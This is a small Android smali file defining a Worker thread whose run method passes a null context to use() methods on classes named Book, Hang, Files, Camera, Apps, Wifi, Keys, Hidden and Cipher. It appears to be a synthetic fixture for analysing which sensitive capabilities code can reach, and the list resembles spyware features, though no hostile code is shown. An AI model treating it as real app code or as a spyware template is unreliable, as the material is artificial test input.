.class final Lorg/example/reach/Worker;
.super Ljava/lang/Thread;
.source "Worker.java"

.method constructor <init>()V
    .registers 1
    invoke-direct {p0}, Ljava/lang/Thread;-><init>()V
    return-void
.end method

.method public run()V
    .registers 3
    const/4 v0, 0x0
    invoke-static {v0}, Lorg/example/reach/Book;->use(Landroid/content/Context;)V
    invoke-static {v0}, Lorg/example/reach/Hang;->use(Landroid/content/Context;)V
    invoke-static {v0}, Lorg/example/reach/Files;->use(Landroid/content/Context;)V
    invoke-static {v0}, Lorg/example/reach/Camera;->use(Landroid/content/Context;)V
    invoke-static {v0}, Lorg/example/reach/Apps;->use(Landroid/content/Context;)V
    invoke-static {v0}, Lorg/example/reach/Wifi;->use(Landroid/content/Context;)V
    invoke-static {v0}, Lorg/example/reach/Keys;->use(Landroid/content/Context;)V
    invoke-static {v0}, Lorg/example/reach/Hidden;->use(Landroid/content/Context;)V
    invoke-static {v0}, Lorg/example/reach/Cipher;->use(Landroid/content/Context;)V
    return-void
.end method
